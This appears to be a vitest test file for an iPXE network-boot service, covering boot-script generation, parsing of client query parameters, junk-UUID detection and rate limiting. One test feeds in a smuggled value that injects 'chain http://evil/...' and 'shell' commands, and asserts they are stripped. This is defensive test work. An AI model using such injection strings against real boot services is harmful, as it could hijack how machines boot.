import { expect, test } from "vitest";

import { readAsked } from "./asking.ts";
import { bootScript, ENTRY_SCRIPT, waitScript } from "./boot-script.ts";
import { Limiter } from "./limiter.ts";
import { isJunkUuid } from "./windows.ts";

const MAC = "52:54:00:00:00:01";

test("a boot script gives the kernel its root, name, token, time and card, each as one word", () => {
  const answer = { boots: true, token: "bt_A_B", node: "web-1", time: 1_800_000_000 } as const;
  const kernel = bootScript(MAC, answer, { image: "live-amd64", console: "ttyS0", extra: "quiet" })
    .split("\n")
    .find((line) => line.startsWith("kernel "));
  expect(kernel).toBe(
    `kernel /image/live-amd64/52-54-00-00-00-01/kernel initrd=initrd panic=30 console=ttyS0 quiet boma.id=web-1 boma.token=bt_A_B boma.time=1800000000 BOOTIF=01-52-54-00-00-00-01 || goto again`,
  );
});

test("a reason cannot become a command of iPXE's, whatever is in it", () => {
  const text = waitScript(MAC, "no\nchain http://evil/${net0/mac} || shell");
  expect(text.split("\n").filter((line) => /^(chain|shell)/.test(line))).toEqual([
    "chain --replace /boot.ipxe",
  ]);
  expect(text).not.toContain("$");
});

test("the entry script asks again for ever: a boot service that comes later is found", () => {
  expect(ENTRY_SCRIPT).toMatch(/goto ask\n$/);
});

test("who asks is read from what iPXE sends, in its own spelling and in a person's", () => {
  const asked = (query: string) => readAsked(new URLSearchParams(query));
  expect(asked(`mac=52-54-00-00-00-0A&arch=i386&serial=X1&uuid=`)).toEqual({
    mac: "52:54:00:00:00:0a",
    arch: "amd64",
    serial: "X1",
  });
  expect(asked(`mac=${MAC}&arch=arm64&uuid=3F0C1E52-7D1A-4F5E-9C59-0D9B6D1F2A11`)).toMatchObject({
    arch: "arm64",
    uuid: "3f0c1e52-7d1a-4f5e-9c59-0d9b6d1f2a11",
  });
  for (const query of ["", `mac=${MAC}`, `mac=${MAC}&arch=constructor`, "mac=52:54&arch=arm64"])
    expect(asked(query)).toBeUndefined();
});

test("a UUID that boards without one say is known for junk", () => {
  expect(isJunkUuid("ffffffff-ffff-ffff-ffff-ffffffffffff")).toBe(true);
  expect(isJunkUuid("00000000-0000-0000-0000-ac1f6b000001")).toBe(true);
  expect(isJunkUuid("3f0c1e52-7d1a-4f5e-9c59-0d9b6d1f2a11")).toBe(false);
});

test("an address may ask so often in a minute, and in the next one again", () => {
  const limiter = new Limiter(2);
  expect([1, 2, 3].map(() => limiter.allows("a", 0))).toEqual([true, true, false]);
  expect([limiter.allows("b", 0), limiter.allows("a", 60_000)]).toEqual([true, true]);
});
